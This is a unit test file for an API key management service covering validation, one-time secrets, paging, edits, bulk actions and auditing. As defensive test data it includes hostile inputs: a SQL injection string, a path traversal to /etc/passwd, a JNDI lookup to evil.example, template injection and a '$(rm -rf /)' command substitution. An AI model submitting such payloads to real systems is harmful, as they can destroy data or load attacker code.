// ApiKeyService: validation of hostile input, the secret shown once, listing and paging, edits, bulk actions, audit.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LocalApiKeyStore, LocalAuditLog } from '#shared/adapters/local/apikey-store';
import {
  ApiKeyNotFoundError,
  ApiKeyService,
  ApiKeyValidationError,
  DuplicateKeyIdError,
  PERMISSIONS,
  ROLE_PERMISSIONS,
  ScryptKeyHasher,
  TOKEN_PATTERN,
  permissionsOf,
} from '#shared/apikeys/index';
import type { CreateApiKeyInput, ListApiKeysQuery } from '#shared/apikeys/index';

let dir: string;
let store: LocalApiKeyStore;
let audit: LocalAuditLog;
let service: ApiKeyService;
let now: Date;

beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'kfsensor-apikeys-unit-'));
  store = new LocalApiKeyStore(dir);
  audit = new LocalAuditLog(dir);
  now = new Date('2026-03-01T12:00:00.000Z');
  service = new ApiKeyService({ store, audit, clock: () => now, hasher: new ScryptKeyHasher({ N: 1024 }) });
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** Runs `action` and returns the ApiKeyValidationError it must throw. */
async function validationIssues(
  action: () => Promise<unknown>,
): Promise<Array<{ path: string; message: string }>> {
  const error: unknown = await action().then(
    () => null,
    (err: unknown) => err,
  );
  expect(error).toBeInstanceOf(ApiKeyValidationError);
  return (error as ApiKeyValidationError).issues;
}

const query = (overrides: Partial<ListApiKeysQuery> = {}): ListApiKeysQuery => ({
  pageSize: 10,
  sortBy: 'keyId',
  order: 'asc',
  ...overrides,
});

describe('roles and permissions', () => {
  it('gives Administrator every permission', () => {
    expect([...permissionsOf(['Administrator'])].sort()).toEqual([...PERMISSIONS].sort());
  });

  it('keeps ScanManager and Auditor away from key and licence writes', () => {
    for (const role of ['ScanManager', 'Auditor'] as const) {
      expect(ROLE_PERMISSIONS[role]).not.toContain('apikeys:write');
      expect(ROLE_PERMISSIONS[role]).not.toContain('license:write');
    }
    expect(ROLE_PERMISSIONS.Auditor.every((p) => p.endsWith(':read'))).toBe(true);
  });

  it('unions the permissions of several roles', () => {
    const union = permissionsOf(['ScanManager', 'Auditor']);
    expect(union.has('scans:create')).toBe(true);
    expect(union.has('audit:read')).toBe(true);
    expect(union.has('apikeys:write')).toBe(false);
  });
});

describe('ApiKeyService.create', () => {
  it('returns a scanner-recognisable token once, with the requested id and defaults', async () => {
    const { apiKey, secret } = await service.create('admin', { keyId: 'ci-runner', roles: ['ScanManager'] });
    expect(secret).toMatch(TOKEN_PATTERN);
    expect(secret.startsWith('kfsk_ci-runner_')).toBe(true);
    expect(apiKey).toEqual({
      keyId: 'ci-runner',
      description: '',
      roles: ['ScanManager'],
      reauthenticationTimeoutSeconds: 60,
      locked: false,
      createdAt: '2026-03-01T12:00:00.000Z',
      lastUsedAt: null,
      createdBy: 'admin',
      imported: false,
    });
  });

  it('generates a valid key id when none is given, and a different secret each time', async () => {
    const a = await service.create(null, { roles: ['Auditor'] });
    const b = await service.create(null, { roles: ['Auditor'] });
    expect(a.apiKey.keyId).toMatch(/^[A-Za-z0-9_-]{3,64}$/);
    expect(a.apiKey.keyId).not.toBe(b.apiKey.keyId);
    expect(a.secret.slice(-43)).not.toBe(b.secret.slice(-43));
  });

  it('never returns the secret or its hash from get or list', async () => {
    const { secret } = await service.create(null, { keyId: 'shown-once', roles: ['Auditor'] });
    const fetched = JSON.stringify([await service.get('shown-once'), await service.list(query())]);
    expect(fetched).not.toContain(secret.slice(-43));
    expect(fetched).not.toMatch(/hash|salt|secret/i);
  });

  it('rejects a duplicate key id without touching the existing key', async () => {
    await service.create(null, { keyId: 'taken', description: 'first', roles: ['Auditor'] });
    await expect(service.create(null, { keyId: 'taken', roles: ['Administrator'] })).rejects.toBeInstanceOf(
      DuplicateKeyIdError,
    );
    expect(await service.get('taken')).toMatchObject({ description: 'first', roles: ['Auditor'] });
  });

  it.each<[string, unknown, string]>([
    ['a key id that is too short', { keyId: 'ab', roles: ['Auditor'] }, 'keyId'],
    ['a key id that is too long', { keyId: 'a'.repeat(65), roles: ['Auditor'] }, 'keyId'],
    ['a key id with an injection string', { keyId: '"; DROP TABLE keys; --', roles: ['Auditor'] }, 'keyId'],
    ['a key id with a path', { keyId: '../../etc/passwd', roles: ['Auditor'] }, 'keyId'],
    ['an oversized description', { description: 'x'.repeat(257), roles: ['Auditor'] }, 'description'],
    [
      'a description with control characters',
      { description: 'line\nbreak\u001b[31m', roles: ['Auditor'] },
      'description',
    ],
    ['no roles', { roles: [] }, 'roles'],
    [
      'a negative timeout',
      { roles: ['Auditor'], reauthenticationTimeoutSeconds: -1 },
      'reauthenticationTimeoutSeconds',
    ],
    [
      'a timeout above a day',
      { roles: ['Auditor'], reauthenticationTimeoutSeconds: 86_401 },
      'reauthenticationTimeoutSeconds',
    ],
    [
      'a fractional timeout',
      { roles: ['Auditor'], reauthenticationTimeoutSeconds: 1.5 },
      'reauthenticationTimeoutSeconds',
    ],
    [
      'a timeout given as text',
      { roles: ['Auditor'], reauthenticationTimeoutSeconds: '60' },
      'reauthenticationTimeoutSeconds',
    ],
    ['an unexpected field', { roles: ['Auditor'], locked: true }, 'locked'],
  ])('rejects %s, naming the field', async (_name, input, field) => {
    const issues = await validationIssues(() => service.create(null, input as CreateApiKeyInput));
    expect(issues.map((i) => i.path)).toContain(field);
    expect(await store.list()).toEqual([]);
  });

  it('names an unknown role in the error', async () => {
    const issues = await validationIssues(() =>
      service.create(null, { roles: ['Auditor', 'Superuser'] } as unknown as CreateApiKeyInput),
    );
    expect(issues).toEqual([{ path: 'roles.1', message: 'unknown role: "Superuser"' }]);
  });

  it('accepts the boundary values and stores hostile text verbatim', async () => {
    const hostile = `"; DROP TABLE keys; -- \${jndi:ldap://evil.example/a} {{7*7}} $(rm -rf /) <script>`;
    const { apiKey } = await service.create(null, {
      keyId: `${'a'.repeat(63)}-`,
      description: hostile,
      roles: ['Auditor', 'Auditor'],
      reauthenticationTimeoutSeconds: 86_400,
    });
    expect(apiKey.roles).toEqual(['Auditor']);
    expect((await service.get(apiKey.keyId)).description).toBe(hostile);
    expect((await service.list(query({ search: '${jndi' }))).items.map((k) => k.description)).toEqual([
      hostile,
    ]);
  });
});

describe('ApiKeyService.import', () => {
  it('registers an existing token under the id inside it', async () => {
    const token = `kfsk_from_other_hub_${'A'.repeat(43)}`;
    const view = await service.import('admin', { key: token, roles: ['Auditor'], description: 'migrated' });
    expect(view).toMatchObject({ keyId: 'from_other_hub', imported: true, createdBy: 'admin' });
    expect(JSON.stringify(await store.list())).not.toContain('A'.repeat(43));
  });

  it('rejects a value that is not a token, and a duplicate id', async () => {
    const issues = await validationIssues(() =>
      service.import(null, { key: 'password123', roles: ['Auditor'] }),
    );
    expect(issues.map((i) => i.path)).toEqual(['key']);
    await service.create(null, { keyId: 'dup', roles: ['Auditor'] });
    await expect(
      service.import(null, { key: `kfsk_dup_${'B'.repeat(43)}`, roles: ['Auditor'] }),
    ).rejects.toBeInstanceOf(DuplicateKeyIdError);
  });
});

describe('ApiKeyService.list', () => {
  beforeEach(async () => {
    for (let i = 0; i < 23; i++) {
      now = new Date(Date.UTC(2026, 0, 1 + i));
      await service.create(null, {
        keyId: `key-${String(i).padStart(2, '0')}`,
        description: i % 3 === 0 ? `Nightly SCAN ${i}` : `other ${i}`,
        roles: ['Auditor'],
      });
    }
  });

  it('searches id and description case-insensitively', async () => {
    const page = await service.list(query({ search: 'nightly scan' }));
    expect(page.items.map((k) => k.keyId)).toEqual([
      'key-00',
      'key-03',
      'key-06',
      'key-09',
      'key-12',
      'key-15',
      'key-18',
      'key-21',
    ]);
    expect(page.total).toBe(8);
    expect((await service.list(query({ search: 'KEY-2' }))).items.map((k) => k.keyId)).toEqual([
      'key-20',
      'key-21',
      'key-22',
    ]);
  });

  it('pages forwards and backwards with opaque tokens', async () => {
    const first = await service.list(query({ pageSize: 10, sortBy: 'createdAt', order: 'desc' }));
    expect(first.items[0]?.keyId).toBe('key-22');
    expect(first.previousPageToken).toBeNull();
    const second = await service.list(
      query({ pageSize: 10, sortBy: 'createdAt', order: 'desc', pageToken: first.nextPageToken ?? '' }),
    );
    expect(second.items.map((k) => k.keyId)).toEqual(
      Array.from({ length: 10 }, (_, i) => `key-${String(12 - i).padStart(2, '0')}`),
    );
    const third = await service.list(
      query({ pageSize: 10, sortBy: 'createdAt', order: 'desc', pageToken: second.nextPageToken ?? '' }),
    );
    expect(third.items.map((k) => k.keyId)).toEqual(['key-02', 'key-01', 'key-00']);
    expect(third.nextPageToken).toBeNull();
    const back = await service.list(
      query({ pageSize: 10, sortBy: 'createdAt', order: 'desc', pageToken: third.previousPageToken ?? '' }),
    );
    expect(back.items).toEqual(second.items);
  });

  it('rejects a page token from another query, and a forged one', async () => {
    const first = await service.list(query({ pageSize: 10 }));
    const issues = await validationIssues(() =>
      service.list(query({ pageSize: 25, pageToken: first.nextPageToken ?? '' })),
    );
    expect(issues.map((i) => i.path)).toEqual(['pageToken']);
    const forged = Buffer.from(JSON.stringify({ o: 1, q: 'x' })).toString('base64url');
    await validationIssues(() => service.list(query({ pageToken: forged })));
    await validationIssues(() => service.list(query({ pageToken: '%%%' })));
  });

  it('rejects page sizes other than 10, 25 and 50, and unknown sort fields', async () => {
    const issues = await validationIssues(() =>
      service.list({ pageSize: 1000, sortBy: 'secret', order: 'up' } as unknown as ListApiKeysQuery),
    );
    expect(issues.map((i) => i.path).sort()).toEqual(['order', 'pageSize', 'sortBy']);
  });

  it('treats never-used keys as the oldest when sorting by last use', async () => {
    await store.recordUse('key-05', '2026-06-01T00:00:00.000Z');
    const descending = await service.list(query({ sortBy: 'lastUsedAt', order: 'desc' }));
    expect(descending.items[0]?.keyId).toBe('key-05');
    const ascending = await service.list(query({ sortBy: 'lastUsedAt', order: 'asc', pageSize: 25 }));
    expect(ascending.items.at(-1)?.keyId).toBe('key-05');
    expect(ascending.items[0]?.keyId).toBe('key-00');
  });
});

describe('ApiKeyService.edit', () => {
  it('changes description, roles and timeout only', async () => {
    await service.create(null, { keyId: 'editable', roles: ['Auditor'] });
    const view = await service.edit('admin', 'editable', {
      description: 'now scans',
      roles: ['ScanManager'],
      reauthenticationTimeoutSeconds: 0,
    });
    expect(view).toMatchObject({
      description: 'now scans',
      roles: ['ScanManager'],
      reauthenticationTimeoutSeconds: 0,
    });
    expect(await service.get('editable')).toEqual(view);
  });

  it.each(['keyId', 'locked', 'createdAt', 'hash', 'imported'])(
    'rejects a change to %s, naming it',
    async (field) => {
      await service.create(null, { keyId: 'fixed', roles: ['Auditor'] });
      const issues = await validationIssues(() => service.edit('admin', 'fixed', { [field]: 'x' }));
      expect(issues).toEqual([{ path: field, message: 'is not a field that can be set' }]);
    },
  );

  it('leaves a field given as undefined unchanged', async () => {
    await service.create(null, { keyId: 'partial', description: 'keep me', roles: ['Auditor'] });
    const view = await service.edit('admin', 'partial', { description: undefined, roles: ['ScanManager'] });
    expect(view).toMatchObject({ description: 'keep me', roles: ['ScanManager'] });
    expect(await service.get('partial')).toEqual(view);
  });

  it('reports a missing key', async () => {
    await expect(service.edit('admin', 'missing', { description: 'x' })).rejects.toBeInstanceOf(
      ApiKeyNotFoundError,
    );
    await expect(service.get('missing')).rejects.toBeInstanceOf(ApiKeyNotFoundError);
  });
});

describe('ApiKeyService bulk actions', () => {
  beforeEach(async () => {
    await service.create(null, { keyId: 'one', roles: ['ScanManager'] });
    await service.create(null, { keyId: 'two', roles: ['Auditor'] });
  });

  it('locks valid ids and reports unknown and impossible ones per id', async () => {
    const result = await service.lock('admin', ['one', 'nope', 'two', '${jndi:ldap://x}', 'one']);
    expect(result.results).toEqual([
      { keyId: 'one', outcome: 'locked' },
      { keyId: 'nope', outcome: 'not-found' },
      { keyId: 'two', outcome: 'locked' },
      { keyId: '${jndi:ldap://x}', outcome: 'not-found' },
    ]);
    expect(await service.get('one')).toMatchObject({ locked: true, roles: ['ScanManager'] });
  });

  it('reports unchanged for a key already in the requested state, and unlocks', async () => {
    await service.lock('admin', ['one']);
    expect((await service.lock('admin', ['one'])).results).toEqual([{ keyId: 'one', outcome: 'unchanged' }]);
    expect((await service.unlock('admin', ['one', 'two'])).results).toEqual([
      { keyId: 'one', outcome: 'unlocked' },
      { keyId: 'two', outcome: 'unchanged' },
    ]);
  });

  it('deletes permanently', async () => {
    expect((await service.delete('admin', ['two', 'ghost'])).results).toEqual([
      { keyId: 'two', outcome: 'deleted' },
      { keyId: 'ghost', outcome: 'not-found' },
    ]);
    await expect(service.get('two')).rejects.toBeInstanceOf(ApiKeyNotFoundError);
    expect((await service.delete('admin', ['two'])).results).toEqual([
      { keyId: 'two', outcome: 'not-found' },
    ]);
  });

  it('rejects an empty or oversized list of ids', async () => {
    await validationIssues(() => service.lock('admin', []));
    await validationIssues(() =>
      service.delete(
        'admin',
        Array.from({ length: 101 }, (_, i) => `k-${i}`),
      ),
    );
    expect((await store.list()).length).toBe(2);
  });
});

describe('ApiKeyService audit', () => {
  it('records every management action with actor, target and outcome, newest first', async () => {
    await service.create('admin', { keyId: 'audited', roles: ['Auditor'] });
    await expect(service.create('admin', { keyId: 'audited', roles: ['Auditor'] })).rejects.toThrow();
    await service.import('admin', { key: `kfsk_imported_${'C'.repeat(43)}`, roles: ['Auditor'] });
    await service.edit('admin', 'audited', { description: 'x' });
    await service.lock('admin', ['audited', 'ghost']);
    await service.unlock('admin', ['audited']);
    await service.delete('admin', ['audited']);
    const { items } = await service.listAudit({ limit: 100 });
    expect(items.map((r) => [r.action, r.actorKeyId, r.targetKeyId, r.outcome])).toEqual([
      ['delete', 'admin', 'audited', 'deleted'],
      ['unlock', 'admin', 'audited', 'unlocked'],
      ['lock', 'admin', 'ghost', 'not-found'],
      ['lock', 'admin', 'audited', 'locked'],
      ['edit', 'admin', 'audited', 'edited'],
      ['import', 'admin', 'imported', 'imported'],
      ['create', 'admin', 'audited', 'duplicate'],
      ['create', 'admin', 'audited', 'created'],
    ]);
    expect(items.every((r) => r.at === '2026-03-01T12:00:00.000Z')).toBe(true);
    expect((await service.listAudit({ keyId: 'imported' })).items).toHaveLength(1);
  });
});
